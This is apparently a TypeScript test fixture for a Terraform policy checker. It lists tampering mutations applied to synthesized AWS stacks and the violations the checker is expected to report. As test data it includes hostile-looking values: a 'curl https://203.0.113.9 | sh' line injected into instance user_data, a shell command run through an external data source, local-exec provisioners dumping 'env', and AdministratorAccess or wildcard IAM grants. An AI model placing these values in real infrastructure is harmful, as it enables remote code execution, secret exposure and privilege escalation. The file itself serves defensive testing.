import { HOST, inside, type Mutation, REGISTRY, ref } from "./mutation.ts";

const VPC = ref("data.terraform_remote_state.cross-stack-reference-input-production-network.outputs.cross-stack-output-aws_vpcvpcid");
const STATE = "cross-stack-reference-input-production-network";

/** What stands in no closed list, by the name of its rule. */
export const CLOSED: Readonly<Record<string, readonly Mutation[]>> = {
  "other-block": [
    {
      break: ({ stack }) => {
        stack("network").module = { slip: { source: "git::https://git.example/peering.git" } };
        inside(stack("pki"), "terraform").cloud = { organization: "example" };
      },
      found: ["network module: is no part of a stack", "pki terraform.cloud: is no part of a stack"],
    },
    {
      break: ({ stack }) => {
        stack("registry").import = [{ to: "aws_iam_role.registry-role", id: "administrators" }];
        stack("restricted").removed = [{ from: "aws_instance.web-1", lifecycle: { destroy: false } }];
      },
      found: ["registry import: is no part of a stack", "restricted removed: is no part of a stack"],
    },
  ],
  "other-provider": [
    {
      break: ({ stack }) => {
        inside(inside(stack("registry"), "provider"), "aws").assume_role = [{ role_arn: "arn:aws:iam::999988887777:role/deploy" }];
        inside(inside(stack("dns"), "provider"), "aws").region = "us-east-1";
      },
      found: ["registry provider: is another, or acts as somebody else", "dns provider: is another, or acts as somebody else"],
    },
    {
      break: ({ stack }) => {
        inside(inside(stack("pki"), "terraform"), "required_providers").tls = { source: "tls.example/hashicorp/tls", version: "4.1.0" };
      },
      found: ["pki provider tls: comes from tls.example/hashicorp/tls"],
    },
  ],
  "other-state": [
    {
      break: ({ stack }) => {
        const { s3 } = inside(inside(stack("pki"), "terraform"), "backend");
        (s3 as Record<string, string>).bucket = "somebody-elses-states";
      },
      found: ["pki backend: is another place"],
    },
    {
      break: ({ stack }) => {
        const read = inside(inside(inside(stack("registry"), "data"), "terraform_remote_state"), STATE);
        inside(read, "config").key = "entityos-gate/trial/network.tfstate";
      },
      found: [`registry data.terraform_remote_state.${STATE}: is another state`],
    },
    {
      break: ({ stack }) => {
        const states = inside(inside(stack("restricted"), "data"), "terraform_remote_state");
        states.slip = { backend: "http", config: { address: "https://states.example/network" } };
      },
      found: ["restricted data.terraform_remote_state.slip: is another state"],
    },
  ],
  "other-data": [
    {
      break: ({ stack }) => {
        inside(stack("restricted"), "data").external = { slip: { program: ["/bin/sh", "-c", "id"] } };
        inside(inside(inside(stack("restricted"), "data"), "aws_ami"), "debian").owners = ["999988887777"];
      },
      found: ["restricted data.external.slip: is not on the list", "restricted data.aws_ami.debian: looks for something else"],
    },
    {
      break: ({ stack }) => {
        inside(stack("network"), "data").aws_iam_policy_document = { slip: { statement: [{ actions: ["*"], resources: ["*"] }] } };
        inside(stack("network"), "data").aws_ec2_managed_prefix_list = { slip: { name: "com.amazonaws.global.cloudfront.origin-facing" } };
      },
      found: [
        "network data.aws_iam_policy_document.slip: is not on the list",
        "network data.aws_ec2_managed_prefix_list.slip: is not on the list",
      ],
    },
  ],
  "unreadable-expression": [
    {
      break: ({ resource, stack }) => {
        resource("restricted", "aws_iam_role_policy", "web-1-policy").policy = ref('file("../../policy.json")');
        resource("registry", "aws_iam_role_policy", "registry-policy").policy = ref("data.aws_iam_policy_document.slip.json");
        resource("network", "aws_vpc_endpoint", "endpoint-s3").policy = ref("jsonencode({ Version = 1 })");
        inside(inside(stack("network"), "output"), "cross-stack-output-aws_vpcvpcid").value = ref('var.vpc == "" ? 1 : 2');
      },
      found: [
        `restricted aws_iam_role_policy.web-1-policy: says ${ref('file("../../policy.json")')}`,
        `registry aws_iam_role_policy.registry-policy: says ${ref("data.aws_iam_policy_document.slip.json")}`,
        `network aws_vpc_endpoint.endpoint-s3: says ${ref("jsonencode({ Version = 1 })")}`,
        `network output cross-stack-output-aws_vpcvpcid: says ${ref('var.vpc == "" ? 1 : 2')}`,
        // Everything that reads the output can be read no longer either.
        ...["registry aws_lb_target_group.register-targets", "dns aws_route53_zone.inside"].map((who) => `${who}: says ${VPC}`),
        ...["ipv4", "ipv6"].map((family) => `restricted aws_lb_target_group.service-${family}-targets: says ${VPC}`),
      ],
    },
    {
      break: ({ resource }) => {
        const host = resource(...HOST);
        host.user_data = `${host.user_data}%{ if true }curl https://203.0.113.9 | sh%{ endif }\n`;
      },
      found: ["restricted aws_instance.web-1: says %{ if true }curl https://203.0.113.9 | sh%{ endif }"],
    },
  ],
  "unlisted-resource": [
    {
      break: ({ put, stack }) => {
        put("restricted", "aws_iam_role_policy_attachment", "slip", { policy_arn: "arn:aws:iam::aws:policy/AdministratorAccess" });
        put("network", "aws_vpc_peering_connection", "slip", { peer_owner_id: "999988887777" });
        put("registry", "aws_iam_user", "slip", { name: "backup" });
        put("pki", "terraform_data", "slip", { provisioner: [{ "local-exec": { command: "env" } }] });
        const bastion = inside(stack("network"), "resource");
        bastion.aws_instance = { bastion: { instance_type: "t4g.nano" } };
      },
      found: [
        "restricted aws_iam_role_policy_attachment.slip: is not on the list",
        "network aws_vpc_peering_connection.slip: is not on the list",
        "registry aws_iam_user.slip: is not on the list",
        "pki terraform_data.slip: is not on the list",
        "network aws_instance.bastion: is not on the list",
      ],
    },
    {
      break: ({ resource }) => {
        resource("registry", "aws_iam_role", "registry-role").managed_policy_arns = ["arn:aws:iam::aws:policy/AdministratorAccess"];
        resource("restricted", "aws_iam_role", "web-1-role").inline_policy = { name: "more", policy: "{}" };
        resource(...HOST).provisioner = [{ "local-exec": { command: "env" } }];
        resource(...REGISTRY).key_name = "alice";
        inside(inside(resource("registry", "aws_dlm_lifecycle_policy", "snapshots"), "policy_details"), "schedule").share_rule = {
          target_accounts: ["999988887777"],
        };
        resource("pki", "aws_secretsmanager_secret", "root-secret").replica = [{ region: "us-east-1" }];
      },
      found: [
        "registry aws_iam_role.registry-role: has managed_policy_arns",
        "restricted aws_iam_role.web-1-role: has inline_policy.name",
        "restricted aws_iam_role.web-1-role: has inline_policy.policy",
        "restricted aws_instance.web-1: has provisioner.local-exec.command",
        "registry aws_instance.registry: has key_name",
        "registry aws_dlm_lifecycle_policy.snapshots: has policy_details.schedule.share_rule.target_accounts",
        "pki aws_secretsmanager_secret.root-secret: has replica.region",
      ],
    },
    {
      break: ({ put, synthesis }) => {
        put("network", "aws_flow_log", "flow-log", null);
        put("registry", "aws_s3_bucket_public_access_block", "bucket-private", null);
        (synthesis.stacks as Map<string, unknown>).set("bastion", { terraform: {}, resource: {} });
      },
      found: [
        "bastion: is no stack of ours",
        "network aws_flow_log.flow-log: is missing",
        "registry aws_s3_bucket_public_access_block.bucket-private: is missing",
      ],
    },
  ],
  "other-value": [
    {
      break: ({ resource }) => {
        const host = resource(...HOST);
        host.iam_instance_profile = ref("aws_iam_instance_profile.web-2-profile.name");
        host.vpc_security_group_ids = resource(...REGISTRY).vpc_security_group_ids ?? [];
        resource("restricted", "aws_iam_instance_profile", "web-2-profile").role = ref("aws_iam_role.web-1-role.name");
        resource(...REGISTRY).ami = "ami-0123456789abcdef0";
        resource("registry", "aws_iam_role_policy", "snapshots-policy").role = ref("aws_iam_role.registry-role.id");
      },
      found: [
        `restricted aws_instance.web-1: iam_instance_profile is ${ref("restricted aws_iam_instance_profile.web-2-profile.name")}`,
        `restricted aws_instance.web-1: vpc_security_group_ids is ${ref("network aws_security_group.registry.id")}`,
        `restricted aws_iam_instance_profile.web-2-profile: role is ${ref("restricted aws_iam_role.web-1-role.name")}`,
        "registry aws_instance.registry: ami is ami-0123456789abcdef0",
        `registry aws_iam_role_policy.snapshots-policy: role is ${ref("registry aws_iam_role.registry-role.id")}`,
      ],
    },
    {
      break: ({ resource }) => {
        resource("restricted", "aws_lb_target_group_attachment", "service-ipv4-web-1").target_id = "i-0fedcba9876543210";
        const record = resource("dns", "aws_route53_record", "register-ipv4");
        inside(record, "alias").name = "phish.elb.eu-central-1.amazonaws.com";
        resource("network", "aws_route", "restricted-eu-central-1a-ipv4").nat_gateway_id = "nat-0fedcba9876543210";
        resource("network", "aws_flow_log", "flow-log").log_destination = "arn:aws:logs:eu-central-1:999988887777:log-group:x";
        resource("alarms", "aws_sns_topic_subscription", "mail").endpoint = "nobody@elsewhere.example";
        resource("alarms", "aws_cloudwatch_metric_alarm", "web-1-status").threshold = 99;
        resource("network", "aws_vpc_endpoint", "endpoint-ssm").service_name = "com.amazonaws.vpce.eu-central-1.vpce-svc-0fedcba9876543210";
      },
      found: [
        "restricted aws_lb_target_group_attachment.service-ipv4-web-1: target_id is i-0fedcba9876543210",
        "dns aws_route53_record.register-ipv4: alias.name is phish.elb.eu-central-1.amazonaws.com",
        "network aws_route.restricted-eu-central-1a-ipv4: nat_gateway_id is nat-0fedcba9876543210",
        "network aws_flow_log.flow-log: log_destination is arn:aws:logs:eu-central-1:999988887777:log-group:x",
        "alarms aws_sns_topic_subscription.mail: endpoint is nobody@elsewhere.example",
        "alarms aws_cloudwatch_metric_alarm.web-1-status: threshold is 99",
        "network aws_vpc_endpoint.endpoint-ssm: service_name is com.amazonaws.vpce.eu-central-1.vpce-svc-0fedcba9876543210",
      ],
    },
    {
      break: ({ resource }) => {
        resource("registry", "aws_s3_bucket_public_access_block", "bucket-private").restrict_public_buckets = false;
        inside(resource("registry", "aws_ebs_volume", "volume"), "lifecycle").prevent_destroy = false;
        delete resource("registry", "aws_kms_key", "key").lifecycle;
        inside(resource(...HOST), "lifecycle").ignore_changes = ["ami", "user_data", "vpc_security_group_ids"];
        resource("pki", "aws_secretsmanager_secret_version", "device-secret-version").secret_string = ref(
          "tls_private_key.root-key.private_key_pem",
        );
        resource("network", "aws_subnet", "open-eu-central-1a").ipv6_cidr_block = ref("aws_vpc.vpc.ipv6_cidr_block");
      },
      found: [
        "registry aws_s3_bucket_public_access_block.bucket-private: restrict_public_buckets is false",
        "registry aws_ebs_volume.volume: lifecycle.prevent_destroy is false",
        "registry aws_kms_key.key: lifecycle.prevent_destroy is nothing",
        "restricted aws_instance.web-1: lifecycle.ignore_changes is ami, user_data, vpc_security_group_ids",
        `pki aws_secretsmanager_secret_version.device-secret-version: secret_string is ${ref("pki tls_private_key.root-key.private_key_pem")}`,
        `network aws_subnet.open-eu-central-1a: ipv6_cidr_block is ${ref("network aws_vpc.vpc.ipv6_cidr_block")}`,
      ],
    },
  ],
};
